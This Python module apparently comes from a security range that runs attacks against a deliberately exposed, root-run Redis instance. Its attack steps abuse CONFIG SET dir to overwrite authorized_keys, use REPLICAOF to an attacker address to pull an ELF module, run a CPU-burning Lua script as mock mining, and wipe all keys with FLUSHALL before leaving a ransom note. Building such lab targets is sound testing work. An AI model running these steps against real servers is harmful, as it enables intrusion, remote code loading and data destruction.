"""redis: its own commands write files and call other servers."""

import contextlib
import time
from collections.abc import Sequence

from service_clients import RedisCacheClient

from baseline.demo.attacker import ADDRESS
from baseline.demo.redis import Redis, RedisClient
from baseline.demo.service import Step
from ranges.intruder import Intruder
from ranges.target import Target, require

_MINING = "local n = 0 for i = 1, 30000000 do n = (n * 31 + i) % 65537 end return n"


class RedisTarget(Target[Redis]):
    """It runs as root here, as careless containers do."""

    client = RedisCacheClient
    needs = ("redis-server", "redis-cli")
    techniques = ("shell", "memfd", "scan", "mine", "cron")

    def operations(self) -> Sequence[Step]:
        """Snapshots, a health check, a backup of the snapshot, a restart."""
        port = str(self.server.port)
        inside = self.run_inside
        return (
            Step("snapshot", lambda: self._succeed("BGSAVE")),
            Step("rewriting of the log", lambda: self._succeed("BGREWRITEAOF")),
            Step("health check", lambda: inside(["/usr/bin/redis-cli", "-p", port, "PING"])),
            Step(
                "backup",
                lambda: inside(
                    ["/bin/sh", "-c", "gzip -c dump.rdb > backup.gz"], cwd=self.server.folder
                ),
            ),
            Step("restart", self.restart),
        )

    def restart(self) -> None:
        """Start it again as it was: open to all loopback addresses."""
        super().restart()
        self._succeed("CONFIG", "SET", "protected-mode", "no")

    def ways_in(self, intruder: Intruder) -> Sequence[Step]:
        """Through commands that anybody may give it."""
        return (
            Step("redis writes a file elsewhere", self._write_elsewhere),
            Step(
                "redis takes a program from a rogue master",
                lambda: self._follow(intruder.listener),
            ),
            Step("a script computes inside redis", self._mine),
            Step("all keys are read and deleted for ransom", self._ransom),
        )

    def _write_elsewhere(self) -> None:
        keys = self.server.folder / "elsewhere" / "authorized_keys"
        keys.unlink(missing_ok=True)
        self.server.write_elsewhere()
        require(keys.read_bytes()[:5] if keys.exists() else b"", b"REDIS", "CONFIG SET dir")
        self._command("CONFIG", "SET", "dir", str(self.server.folder))
        self._command("CONFIG", "SET", "dbfilename", "dump.rdb")

    def _follow(self, port: int) -> None:
        self._command("CONFIG", "SET", "dbfilename", "module.so")
        self._command("REPLICAOF", ADDRESS, str(port))
        written = self.server.folder / "module.so"
        deadline = time.monotonic() + 5
        while not written.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        self._command("REPLICAOF", "NO", "ONE")
        self._command("CONFIG", "SET", "dbfilename", "dump.rdb")
        require(written.read_bytes()[:4] if written.exists() else b"", b"\x7fELF", "REPLICAOF")
        written.unlink()

    def _mine(self) -> None:
        require(self._command("EVAL", _MINING, "0"), b":", "EVAL")

    def _ransom(self) -> None:
        for command in (("KEYS", "*"), ("FLUSHALL",), ("SET", "README", "pay"), ("SAVE",)):
            answer = self._command(*command)
        require(answer, b"+OK", "SAVE")

    def _succeed(self, *words: str) -> None:
        require(self._command(*words)[:1], b"+", words[0])

    def _command(self, *words: str) -> bytes:
        with contextlib.closing(RedisClient(self.server.port)) as client:
            return client.command(*words)
